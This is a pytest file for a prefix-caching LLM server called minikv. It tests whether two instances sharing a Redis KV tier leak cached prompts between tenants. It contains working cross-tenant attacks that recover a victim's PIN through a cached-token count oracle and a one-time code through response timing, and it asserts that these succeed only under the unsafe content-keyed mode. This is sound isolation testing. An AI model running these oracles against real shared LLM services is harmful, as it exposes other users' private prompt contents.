"""Two ``minikv serve`` processes sharing one real Redis: the salt-drop leak across instances, and its fix.

Each setting runs instance A and instance B as separate processes: same model, same operator
secret file, same Redis database, each with its own tenant-keyed pool.  Under UNSAFE
``--kv-tier-keys content`` (LMCache #4825's ``cache_salt=''``) a tenant on B

* is served from blocks another tenant cached through A: ``minikv audit isolation`` pointed at B
  (``--prime-url`` A) fails, in both directions;
* recovers a PIN another tenant sent to A with the count oracle of lesson 04 (``cached_tokens``),
  two digits per block, at most 100 probes a block;
* recovers a 2-digit code another tenant sent to A with lesson 04's timing attack, from response
  times alone: 100 probes, one per candidate;
* is faster on prompts another tenant primed through A: ``minikv audit timing`` pointed at B
  (``--prime-url`` A) detects it from response times alone.

Under the default ``--kv-tier-keys tenant`` both pass/fail the other way, and the same-tenant
control -- tenant alice on B hits what alice cached through A -- is positive.
"""
from __future__ import annotations

import json
import socket
import subprocess
import sys
import time

import httpx
import pytest

from minikv.audit.isolation import FAIL, PASS
from minikv.cli import main

pytestmark = [pytest.mark.redis, pytest.mark.slow]

KEYS = {"sk-alice": "alice", "sk-bob": "bob", "sk-mallory": "mallory"}
DB = 2
MODEL: list[str] = []  # the served model id (the --model path), set by the fleet fixture


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def start_serve(tiny_path, tmp, url, keys_mode):
    port = free_port()
    log = open(tmp / f"serve-{port}.log", "wb")
    cmd = [sys.executable, "-m", "minikv", "serve", "--model", str(tiny_path), "--port", str(port),
           "--api-keys", str(tmp / "keys.json"), "--engine-secret-file", str(tmp / "secret"),
           "--enable-prefix-caching", "--report-cached-tokens", "--block-size", "4", "--num-blocks", "512",
           "--kv-tier", url, "--kv-tier-keys", keys_mode, "--requests-per-s", "0", "--no-access-log",
           "--log-level", "warning"]
    proc = subprocess.Popen(cmd, stdout=log, stderr=subprocess.STDOUT)
    base = f"http://127.0.0.1:{port}"
    for _ in range(600):
        try:
            if httpx.get(f"{base}/health", timeout=1).status_code == 200:
                return proc, f"{base}/v1"
        except httpx.HTTPError:
            pass
        if proc.poll() is not None:
            break
        time.sleep(0.1)
    proc.kill()
    raise AssertionError((tmp / f"serve-{port}.log").read_text()[-2000:])


@pytest.fixture(scope="module", params=["content", "tenant"])
def fleet(request, tiny_path, redis_base, tmp_path_factory):
    from redis_helpers import fresh_db
    tmp = tmp_path_factory.mktemp(f"fleet-{request.param}")
    MODEL[:] = [str(tiny_path)]
    (tmp / "keys.json").write_text(json.dumps(KEYS))
    (tmp / "secret").write_bytes(b"fleet-operator-secret-0123456789")
    client = fresh_db(redis_base, DB)
    url = f"{redis_base}/{DB}"
    procs = []
    try:
        a, url_a = start_serve(tiny_path, tmp, url, request.param)
        procs.append(a)
        b, url_b = start_serve(tiny_path, tmp, url, request.param)
        procs.append(b)
        yield request.param, url_a, url_b, tmp
    finally:
        for p in procs:  # by PID, each one
            p.terminate()
            p.wait(timeout=30)
        client.flushdb()


@pytest.mark.parametrize("direction", ["A->B", "B->A"])
def test_audit_isolation_across_two_instances(fleet, direction, capsys):
    mode, url_a, url_b, tmp = fleet
    prime, target = (url_a, url_b) if direction == "A->B" else (url_b, url_a)
    rc = main(["audit", "isolation", "--base-url", target, "--prime-url", prime,
               "--api-keys", str(tmp / "keys.json"), "--rounds", "1", "--json"])
    report = json.loads(capsys.readouterr().out)
    assert report["same_tenant_cached_tokens"] > 0  # the control: a tenant's blocks cross instances
    if mode == "content":  # UNSAFE: the salt dropped at the tier
        assert rc == 2 and report["verdict"] == FAIL and report["cross_tenant_cached_tokens"] > 0
    else:
        assert rc == 0 and report["verdict"] == PASS and report["cross_tenant_cached_tokens"] == 0


def _cached(http, url, key, ids, model=None) -> int:
    r = http.post(f"{url}/completions", json={"model": model or MODEL[0], "prompt": ids, "max_tokens": 1, "temperature": 0},
                  headers={"Authorization": f"Bearer {key}"})
    r.raise_for_status()
    return r.json()["usage"]["prompt_tokens_details"]["cached_tokens"]


def count_oracle(http, url, key, prefix, suffix, digits, n_secret, bs=4):
    """Recover ``n_secret`` ids after ``prefix`` (which ends 2 ids into a block), 2 per block, from
    ``cached_tokens``; returns (recovered or None, probes)."""
    found, probes = [], 0
    while len(found) < n_secret:
        done = len(prefix) + len(found)
        need = bs - done % bs  # ids that complete the block
        tail = suffix[:max(0, need - (n_secret - len(found)))] if need > n_secret - len(found) else []
        width = need - len(tail)
        hit = None
        for guess in ([a, b] for a in digits for b in digits) if width == 2 else ([a] for a in digits):
            ids = prefix + found + guess + tail
            probes += 1
            if _cached(http, url, key, ids + [digits[0]] * bs) >= len(ids):  # the whole block hit
                hit = guess
                break
        if hit is None:
            return None, probes
        found += hit
    return found, probes


def test_count_oracle_on_B_recovers_a_pin_sent_to_A_only_under_unsafe_keys(fleet, tiny_path):
    from transformers import AutoTokenizer
    mode, url_a, url_b, _ = fleet
    tok = AutoTokenizer.from_pretrained(tiny_path)
    enc = lambda s: tok.encode(s, add_special_tokens=False)  # noqa: E731
    digits = [enc(str(d))[0] for d in range(10)]
    prefix, pin, suffix = enc("Bob's card PIN: "), enc("4719"), enc(". Thank you, operator.")
    prefix = enc("xy")[: (2 - len(prefix)) % 4] + prefix  # 2 ids into a block: the PIN spans 2 blocks
    with httpx.Client(timeout=60) as http:
        _cached(http, url_a, "sk-bob", prefix + pin + suffix)  # the victim, on instance A
        got, probes = count_oracle(http, url_b, "sk-mallory", prefix, suffix, digits, len(pin))
    print(f"\n[{mode}] recovered {got} in {probes} probes ({probes / len(pin):.0f} per token)")
    if mode == "content":
        assert got == pin and probes <= 200
    else:
        assert got is None


def timing_oracle(http, url, key, prefix, digits, tail, margin=0.8):
    """Recover the 2 ids that complete ``prefix``'s last block from response times alone: one
    request per candidate (a repeat would hit the attacker's own cached copy: lesson 04's
    self-priming), each followed by ``tail``, the long text the victim's prompt is known to go on
    with.  Only the right pair hits the store for the whole tail; every other pair recomputes it.
    The fastest candidate is the answer only if it alone is under ``margin`` x the median (the
    typical miss): among candidates that all miss, the fastest is noise, and no answer is the
    right one.  Returns (recovered or None, probes, fastest s, runner-up s, median s)."""
    times = {}
    for a in digits:
        for b in digits:
            body = {"model": MODEL[0], "prompt": prefix + [a, b] + tail, "max_tokens": 1, "temperature": 0}
            t0 = time.perf_counter()
            http.post(f"{url}/completions", json=body, headers={"Authorization": f"Bearer {key}"}).raise_for_status()
            times[(a, b)] = time.perf_counter() - t0
    ranked = sorted(times, key=times.get)
    best, second = times[ranked[0]], times[ranked[1]]
    median = sorted(times.values())[len(times) // 2]
    alone = best < margin * median <= second
    return (list(ranked[0]) if alone else None), len(times), best, second, median


@pytest.mark.single_shot_timing
def test_timing_attack_on_B_recovers_a_code_sent_to_A_only_under_unsafe_keys(fleet, tiny_path):
    """Lesson 04's timing attack across instances: bob sends a form letter whose 2-digit code is
    followed by ~1,800 tokens of boilerplate (the template is public; the code is not) through A.
    Mallory, on B, tries all 100 codes once each and times them.  Under UNSAFE content keys the
    right code is served from bob's blocks in the shared store and answers sooner; under tenant
    keys all 100 recompute and the attack returns nothing.

    One probe per candidate is all an attacker gets (a repeat hits their own copy), so one attack is
    at the mercy of the machine's load: on a busy 2-core machine a single attack once found no
    candidate clear of the rest.  Under content keys the test therefore runs up to three
    independent attacks, each on a new code and a new template, and needs one to recover its code
    and none to name a wrong one; under tenant keys one attack must recover nothing."""
    import random
    from transformers import AutoTokenizer
    mode, url_a, url_b, _ = fleet
    tok = AutoTokenizer.from_pretrained(tiny_path)
    enc = lambda s: tok.encode(s, add_special_tokens=False)  # noqa: E731
    digits = [enc(str(d))[0] for d in range(10)]
    prefix = enc("Your one-time code is: ")
    prefix = enc("xy")[: (2 - len(prefix)) % 4] + prefix  # the 2 code digits complete a block
    for attempt in range(3 if mode == "content" else 1):
        rng = random.Random(39 + attempt)
        tail = [rng.randrange(10, 200) for _ in range(1800)]  # the template's known boilerplate
        code = [digits[(7 + 3 * attempt) % 10], digits[(3 + 5 * attempt) % 10]]
        with httpx.Client(timeout=120) as http:
            _cached(http, url_a, "sk-bob", prefix + code + tail)  # the victim, on instance A
            got, probes, best, second, median = timing_oracle(http, url_b, "sk-mallory", prefix, digits, tail)
        print(f"\n[timing attack {attempt + 1}, {mode} keys] recovered {got} in {probes} probes "
              f"({probes / len(code):.0f} per token); fastest {1e3 * best:.0f} ms, runner-up {1e3 * second:.0f} ms, "
              f"median {1e3 * median:.0f} ms")
        if mode == "tenant":
            assert got is None
        else:
            assert got in (None, code), f"attack {attempt + 1} named a wrong code {got} (the code was {code})"
            if got == code:
                break
    else:
        assert mode == "tenant", "three independent timing attacks under content keys recovered nothing"


#: The timing audit's scale.  On tiny-random a tier hit on B (GET + verify + decrypt per block)
#: beats a recompute only for long prompts; at ~1,800 tokens (the pool and the model hold 2,048)
#: the medians measured 200-250 ms (hit) against 320-400 ms (miss) on a loaded 2-core machine.
#: With 40 trials per arm the audit's one-sided KS gave p ~ 1e-9 .. 1e-14 for real hits and p ~ 0.8
#: without, so alpha = 1e-4 leaves orders of magnitude on both sides (Gu et al.'s 1e-8 needs more
#: samples than a test should spend).
TIMING = ["--samples", "40", "--prompt-tokens", "1800", "--alpha", "1e-4", "--fail-on-detect", "--no-progress"]


def _timing_audit(url_b, url_a, key, victim, out, capsys):
    argv = ["audit", "timing", "--base-url", url_b, "--prime-url", url_a, "--api-key", key,
            "--out", str(out), *TIMING] + (["--victim-key", victim] if victim else [])
    rc = main(argv)
    capsys.readouterr()  # the verdict line; the JSON report holds it all
    report = json.loads(next(out.glob("timing-*.json")).read_text())
    r = report["result"]
    with capsys.disabled():
        print(f"\n[timing {out.name}] hit median {r['median_hit'] * 1e3:.1f} ms, miss median "
              f"{r['median_miss'] * 1e3:.1f} ms, p={r['p_value']:.3g}, AUC={r['auc']:.3f}: {report['verdict']}")
    return rc, report


def _timing_audit_detects(url_b, url_a, key, victim, out, capsys, tries=3):
    """Run the audit until it detects, at most ``tries`` times; each run draws fresh salted prompts
    (timing.py), so the runs are independent.  Only for the arms that MUST detect: a run under load
    can miss a real hit (CI once measured p=6.4e-4, AUC 0.78 with the test suite beside it, against
    p ~ 1e-9 quiet), but no number of runs makes a fleet without sharing reject at 1e-4 (p ~ 0.8
    there).  The arm that must NOT detect gets one run, so retries can only cost this test a pass,
    never buy one.  Returns the last (rc, report)."""
    for i in range(tries):
        rc, report = _timing_audit(url_b, url_a, key, victim, out / f"run{i}", capsys)
        assert report["failures"] == 0, report["verdict"]
        if rc == 2 and report["detected"]:
            break
    return rc, report


def test_audit_timing_on_B_primed_through_A(fleet, capsys):
    """Bob primes through A, mallory is timed on B: detected (exit 2) only under UNSAFE content
    keys.  Under tenant keys the audit passes, and its same-tenant control -- alice primes through
    A and is timed on B -- detects the cross-instance tier hit, so the pass is not for lack of one."""
    mode, url_a, url_b, tmp = fleet
    if mode == "content":  # UNSAFE: mallory on B is served from bob's blocks, cached through A
        rc, cross = _timing_audit_detects(url_b, url_a, "sk-mallory", "sk-bob", tmp / "timing-cross", capsys)
        assert cross["prime_url"] == url_a and cross["separate_victim"]
        assert rc == 2 and cross["detected"], cross["verdict"]
        return
    rc, cross = _timing_audit(url_b, url_a, "sk-mallory", "sk-bob", tmp / "timing-cross", capsys)
    assert cross["prime_url"] == url_a and cross["separate_victim"] and cross["failures"] == 0
    assert rc == 0 and not cross["detected"], cross["verdict"]
    rc, same = _timing_audit_detects(url_b, url_a, "sk-alice", None, tmp / "timing-same", capsys)
    assert rc == 2 and same["detected"] and not same["separate_victim"], same["verdict"]
